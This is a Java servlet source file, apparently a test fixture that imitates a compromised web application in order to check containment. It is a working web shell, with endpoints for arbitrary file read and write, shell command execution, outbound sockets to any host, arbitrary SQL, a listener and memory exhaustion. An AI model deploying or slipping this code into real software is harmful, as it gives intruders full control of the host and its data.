package dev.slipway.line.service.app;

import jakarta.servlet.annotation.WebServlet;
import jakarta.servlet.http.HttpServlet;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.Objects;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicReference;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/** Does on its machine whatever it is asked to, as an archive that somebody else has taken over would. */
@WebServlet(
        urlPatterns = {"/read", "/list", "/write", "/run", "/talk", "/query", "/fill", "/listen", "/heard", "/silence"})
public class HostileServlet extends HttpServlet {
    private static final long serialVersionUID = 1L;
    private static final int TIMEOUT_MILLIS = 5000;
    private static final AtomicReference<ServerSocket> LISTENER = new AtomicReference<>();

    /** How many have connected since it began to listen. */
    private static final AtomicInteger HEARD = new AtomicInteger();

    /** Made by the container. */
    public HostileServlet() {}

    @Override
    protected void doPost(HttpServletRequest request, HttpServletResponse response) throws IOException {
        response.setContentType("text/plain");
        response.setCharacterEncoding("UTF-8");
        String said;
        try {
            said = "did: " + attempt(request);
        } catch (IOException | SQLException | InterruptedException | RuntimeException e) {
            said = "failed: " + e;
        }
        response.getWriter().print(said);
    }

    /** What has connected; by GET, which a client repeats where its connection was just closed. */
    @Override
    protected void doGet(HttpServletRequest request, HttpServletResponse response) throws IOException {
        response.setContentType("text/plain");
        response.getWriter().print(HEARD.get());
    }

    private static String attempt(HttpServletRequest request) throws IOException, SQLException, InterruptedException {
        return switch (request.getServletPath()) {
            case "/read" -> Files.readString(path(request), StandardCharsets.ISO_8859_1);
            case "/list" -> list(path(request));
            case "/write" -> write(path(request), word(request, "text"));
            case "/run" -> run(word(request, "command"));
            case "/talk" -> talk(word(request, "host"), Integer.parseInt(word(request, "port")), word(request, "text"));
            case "/query" ->
                query(word(request, "url"), word(request, "user"), word(request, "password"), word(request, "sql"));
            case "/listen" -> listen(Integer.parseInt(word(request, "port")));
            case "/silence" -> silence();
            default -> String.valueOf(fill(Integer.parseInt(word(request, "megabytes"))));
        };
    }

    private static String list(Path folder) throws IOException {
        try (Stream<Path> files = Files.list(folder)) {
            return files.map(Path::toString).sorted().collect(Collectors.joining("\n"));
        }
    }

    private static String write(Path file, String text) throws IOException {
        Files.writeString(file, text, StandardOpenOption.CREATE, StandardOpenOption.TRUNCATE_EXISTING);
        return "written";
    }

    private static String run(String command) throws IOException, InterruptedException {
        Process process = new ProcessBuilder("sh", "-c", command)
                .redirectErrorStream(true)
                .start();
        String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        return process.waitFor() + " " + output;
    }

    private static String talk(String host, int port, String text) throws IOException {
        try (Socket socket = new Socket(host, port)) {
            socket.setSoTimeout(TIMEOUT_MILLIS);
            socket.getOutputStream().write(text.getBytes(StandardCharsets.ISO_8859_1));
            socket.getOutputStream().flush();
            return new String(socket.getInputStream().readNBytes(2000), StandardCharsets.ISO_8859_1);
        }
    }

    private static String query(String url, String user, String password, String sql) throws SQLException {
        try (Connection connection = DriverManager.getConnection(url, user, password);
                Statement statement = connection.createStatement()) {
            return String.valueOf(statement.execute(sql));
        }
    }

    /** As a worker of another service does while it runs; it answers whatever it is asked. */
    private static String listen(int port) throws IOException {
        ServerSocket socket = new ServerSocket(port, 50, InetAddress.getByName("127.0.0.1"));
        LISTENER.set(socket);
        HEARD.set(0);
        Thread thread = new Thread(() -> answer(socket));
        thread.setDaemon(true);
        thread.start();
        return "listens";
    }

    private static void answer(ServerSocket socket) {
        while (!socket.isClosed()) {
            try (Socket connection = socket.accept()) {
                HEARD.incrementAndGet();
                connection.setSoTimeout(TIMEOUT_MILLIS);
                connection.getInputStream().read(new byte[8192]);
                connection
                        .getOutputStream()
                        .write("HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nstolen"
                                .getBytes(StandardCharsets.ISO_8859_1));
            } catch (IOException e) {
                // The next one may be somebody else.
            }
        }
    }

    private static String silence() throws IOException {
        ServerSocket socket = LISTENER.getAndSet(null);
        if (socket != null) {
            socket.close();
        }
        return "silent";
    }

    private static int fill(int megabytes) {
        byte[][] kept = new byte[megabytes][];
        for (int i = 0; i < megabytes; i++) {
            kept[i] = new byte[1 << 20];
        }
        return kept.length;
    }

    private static Path path(HttpServletRequest request) {
        return Path.of(word(request, "path"));
    }

    private static String word(HttpServletRequest request, String name) {
        return Objects.requireNonNull(request.getParameter(name), name);
    }
}
